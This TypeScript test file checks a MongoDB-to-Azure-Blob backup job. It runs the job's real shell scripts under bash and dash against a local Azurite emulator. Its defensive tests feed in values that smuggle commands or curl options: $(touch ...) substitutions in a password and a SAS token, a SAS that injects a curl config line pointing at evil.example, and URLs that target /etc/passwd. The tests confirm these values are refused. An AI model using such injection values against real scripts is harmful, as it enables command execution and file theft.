/**
 * The backup job's REAL scripts (lib/backupScripts.ts, run by bash and by dash as the curl image's
 * sh would) against a REAL Azurite Blob service on loopback, with container SAS tokens signed the
 * way Azure signs them (test/support/blobSas.ts) with the stamps' scope and permissions
 * (lib/backup.ts uploadSasSpec: sr=c, sp=cw). MongoDB cannot run here: a stand-in `mongodump`
 * (a shell script named as such, first on PATH) writes a known gzip archive and records its argv.
 * Fast (a few seconds) and engine-free, so it belongs to the unit suite.
 */
import { spawn } from "node:child_process";
import * as fs from "node:fs";
import * as http from "node:http";
import * as os from "node:os";
import * as path from "node:path";
import * as zlib from "node:zlib";
import {
  backupContainerName,
  BLOB_API_VERSIONS,
  BLOB_NAME,
  UPLOAD_PERMISSIONS,
  uploadSasSpec,
} from "../lib/backup";
import { dumpScript, ENV, uploadScript } from "../lib/backupScripts";
import { Azurite, createContainer, freePort, listBlobs, startAzurite } from "./support/azurite";
import { containerSas } from "./support/blobSas";

const SHELLS = ["bash", "dash"] as const;
const FUTURE = "2099-01-01T00:00:00Z";
let azurite: Azurite;
let work: string;
const seattle = backupContainerName("seattle");
const munich = backupContainerName("munich");

/** The stamps' upload SAS for a container, as uploadSasSpec scopes it (HTTP allowed on loopback). */
const uploadSas = (container: string, expiry = FUTURE) =>
  containerSas({ container, permissions: UPLOAD_PERMISSIONS, expiry, protocols: "https,http" });

const containerUrl = (container: string) => `${azurite.accountUrl}/${container}`;

/**
 * Runs a generated script with `shell`, the stand-in mongodump first on PATH. Asynchronous, so
 * servers in this process keep answering while it runs.
 */
function run(
  shell: string,
  script: string,
  env: Record<string, string>,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const file = path.join(work, `script-${Math.random().toString(36).slice(2)}.sh`);
  fs.writeFileSync(file, script);
  const child = spawn(shell, [file], {
    env: { PATH: `${work}/bin:${process.env.PATH}`, HOME: work, ...env },
    timeout: 60_000,
  });
  let stdout = "";
  let stderr = "";
  child.stdout.on("data", (d) => (stdout += String(d)));
  child.stderr.on("data", (d) => (stderr += String(d)));
  return new Promise((resolve) => child.on("close", (code) => resolve({ code, stdout, stderr })));
}

/** A known archive: what the stand-in mongodump writes. */
const KNOWN = zlib.gzipSync(Buffer.from("stand-in mongodump archive\n".repeat(5000)));

beforeAll(async () => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), "backup-test-"));
  fs.mkdirSync(path.join(work, "bin"));
  fs.writeFileSync(path.join(work, "known.gz"), KNOWN);
  // STAND-IN for mongodump (MongoDB is not available here): records its arguments and the config
  // file it was given, then writes the known archive to --archive=<path>.
  fs.writeFileSync(
    path.join(work, "bin", "mongodump"),
    [
      "#!/bin/sh",
      `printf '%s\\n' "$@" > ${work}/mongodump.argv`,
      'for a in "$@"; do case "$a" in --config=*) cp "${a#--config=}" ' +
        `${work}/mongodump.conf ;; --archive=*) cp ${work}/known.gz "\${a#--archive=}" ;; esac; done`,
      "",
    ].join("\n"),
    { mode: 0o755 },
  );
  azurite = await startAzurite();
  await createContainer(azurite, seattle);
  await createContainer(azurite, munich);
}, 60_000);

afterAll(async () => {
  await azurite?.stop();
  fs.rmSync(work, { recursive: true, force: true });
});

describe.each(SHELLS)("with %s", (shell) => {
  const archive = () => path.join(work, `${shell}.archive.gz`);

  test("dump then upload: the blob arrives byte for byte; the password never on argv", async () => {
    const password = `pa'ss"$(touch ${work}/pwned) word`;
    const dump = await run(
      shell,
      dumpScript({ host: "mongo.example", port: 27017, database: "ratingsdb", archive: archive() }),
      {
        [ENV.mongoUser]: "root",
        [ENV.mongoPassword]: password,
      },
    );
    expect(dump).toMatchObject({ code: 0 });
    const argv = fs.readFileSync(path.join(work, "mongodump.argv"), "utf8");
    expect(argv).not.toContain("pa'ss");
    expect(argv).toContain("--archive=" + archive());
    expect(argv.split("\n")).toEqual(
      expect.arrayContaining(["--db=ratingsdb", "--gzip", "--host=mongo.example", "--port=27017"]),
    );
    // The config file held the password, YAML single-quoted ('' for '), and nothing was executed.
    expect(fs.readFileSync(path.join(work, "mongodump.conf"), "utf8")).toBe(
      `password: 'pa''ss"$(touch ${work}/pwned) word'\n`,
    );
    expect(fs.existsSync(path.join(work, "pwned"))).toBe(false);

    // Blob names have a one-second resolution: the other shell's run may have just uploaded.
    await new Promise((r) => setTimeout(r, 1100));
    const before = await listBlobs(azurite, seattle);
    const up = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), {
      [ENV.containerUrl]: containerUrl(seattle),
      [ENV.sas]: uploadSas(seattle),
    });
    expect(up.stderr).toBe("");
    expect(up.code).toBe(0);
    const added = (await listBlobs(azurite, seattle)).filter((b) => !before.includes(b));
    expect(added).toHaveLength(1);
    expect(added[0]).toMatch(BLOB_NAME);
    expect(up.stdout).toContain(added[0]);
    expect(up.stdout + up.stderr).not.toContain("sig=");
    const res = await fetch(`${containerUrl(seattle)}/${added[0]}?${azurite.adminSas}`);
    expect(Buffer.from(await res.arrayBuffer()).equals(KNOWN)).toBe(true);
  });

  test("the upload SAS cannot read, list, or write another stamp's container", async () => {
    const [blob] = await listBlobs(azurite, seattle);
    const sas = uploadSas(seattle);
    expect((await fetch(`${containerUrl(seattle)}/${blob}?${sas}`)).status).toBe(403);
    expect(
      (await fetch(`${containerUrl(seattle)}?restype=container&comp=list&${sas}`)).status,
    ).toBe(403);
    expect(
      (await fetch(`${containerUrl(seattle)}/${blob}?${sas}`, { method: "DELETE" })).status,
    ).toBe(403);
    fs.copyFileSync(path.join(work, "known.gz"), archive());
    const other = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), {
      [ENV.containerUrl]: containerUrl(munich),
      [ENV.sas]: sas,
    });
    expect(other.code).not.toBe(0);
    expect(other.stderr).toMatch(/HTTP 403 Authori[sz]ationFailure; nothing was uploaded/);
    expect(await listBlobs(azurite, munich)).toEqual([]);
  });

  test("an upload never overwrites a blob (same name: 409, the first archive stays)", async () => {
    // STAND-IN for date: a fixed time, so both uploads get the same blob name.
    const fixed = path.join(work, `fixed-date-${shell}`);
    fs.mkdirSync(fixed, { recursive: true });
    fs.writeFileSync(
      path.join(fixed, "date"),
      `#!/bin/sh\necho 20300101T00000${SHELLS.indexOf(shell)}Z\n`,
      {
        mode: 0o755,
      },
    );
    const env = {
      PATH: `${fixed}:${process.env.PATH}`,
      [ENV.containerUrl]: containerUrl(seattle),
      [ENV.sas]: uploadSas(seattle),
    };
    fs.copyFileSync(path.join(work, "known.gz"), archive());
    expect(
      (await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), env)).code,
    ).toBe(0);
    fs.writeFileSync(archive(), zlib.gzipSync(Buffer.from("a different archive")));
    const second = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), env);
    expect(second.code).toBe(1);
    expect(second.stderr).toMatch(/HTTP 409 BlobAlreadyExists; nothing was uploaded/);
    const name = `mongodump-seattle-20300101T00000${SHELLS.indexOf(shell)}Z.archive.gz`;
    const res = await fetch(`${containerUrl(seattle)}/${name}?${azurite.adminSas}`);
    expect(Buffer.from(await res.arrayBuffer()).equals(KNOWN)).toBe(true);
  });

  test("with the Azure Stack Hub API version (backup.target) the upload works the same", async () => {
    fs.copyFileSync(path.join(work, "known.gz"), archive());
    await new Promise((r) => setTimeout(r, 1100));
    const script = uploadScript({
      stamp: "seattle",
      archive: archive(),
      apiVersion: BLOB_API_VERSIONS.azureStackHub,
    });
    expect(script).toContain("api_version='2019-07-07'");
    const r = await run(shell, script, {
      [ENV.containerUrl]: containerUrl(seattle),
      [ENV.sas]: uploadSas(seattle),
    });
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
  });

  test("an expired SAS is refused and the script exits non-zero", async () => {
    fs.copyFileSync(path.join(work, "known.gz"), archive());
    const before = await listBlobs(azurite, seattle);
    const r = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), {
      [ENV.containerUrl]: containerUrl(seattle),
      [ENV.sas]: uploadSas(seattle, "2020-01-01T00:00:00Z"),
    });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/HTTP 403/);
    expect(await listBlobs(azurite, seattle)).toEqual(before);
  });

  test("a truncated archive is never uploaded", async () => {
    fs.writeFileSync(archive(), KNOWN.subarray(0, KNOWN.length - 20));
    const before = await listBlobs(azurite, seattle);
    const r = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), {
      [ENV.containerUrl]: containerUrl(seattle),
      [ENV.sas]: uploadSas(seattle),
    });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/not a complete gzip stream; nothing was uploaded/);
    expect(await listBlobs(azurite, seattle)).toEqual(before);
  });

  test("a refused connection and a dropped upload exit non-zero", async () => {
    fs.copyFileSync(path.join(work, "known.gz"), archive());
    const closed = await freePort();
    const refused = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), {
      [ENV.containerUrl]: `http://127.0.0.1:${closed}/devstoreaccount1/${seattle}`,
      [ENV.sas]: uploadSas(seattle),
    });
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(/HTTP 000/);

    // A server that reads part of the body, then drops the connection.
    const server = http.createServer((req) => req.once("data", () => req.socket.destroy()));
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    const port = (server.address() as { port: number }).port;
    const dropped = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), {
      [ENV.containerUrl]: `http://127.0.0.1:${port}/devstoreaccount1/${seattle}`,
      [ENV.sas]: uploadSas(seattle),
    });
    server.close();
    expect(dropped.code).not.toBe(0);
    expect(dropped.stderr).toMatch(/nothing was uploaded/);
  }, 60_000);

  test("hostile SAS or URL values from the Secret are refused before curl runs", async () => {
    fs.copyFileSync(path.join(work, "known.gz"), archive());
    for (const [url, sas] of [
      [containerUrl(seattle), `${uploadSas(seattle)}"\nurl = "http://evil.example/x`],
      [containerUrl(seattle), `sig=x$(touch ${work}/pwned2)`],
      [`${containerUrl(seattle)}" -o /etc/passwd "`, uploadSas(seattle)],
      ["file:///etc/passwd", uploadSas(seattle)],
    ]) {
      const r = await run(shell, uploadScript({ stamp: "seattle", archive: archive() }), {
        [ENV.containerUrl]: url,
        [ENV.sas]: sas,
      });
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/nothing was uploaded/);
    }
    expect(fs.existsSync(path.join(work, "pwned2"))).toBe(false);
  });
});

test("the SAS spec the global stack asks ARM for has the scope and permissions tested here", () => {
  const spec = uploadSasSpec("contosobackups", "seattle", new Date("2026-11-28T20:00:00Z"), 14);
  expect(spec).toEqual({
    canonicalizedResource: `/blob/contosobackups/${seattle}`,
    resource: "c",
    permissions: UPLOAD_PERMISSIONS,
    protocols: "https",
    sharedAccessExpiryTime: "2026-12-15T00:00:00Z",
  });
  expect(UPLOAD_PERMISSIONS).toBe("cw");
});
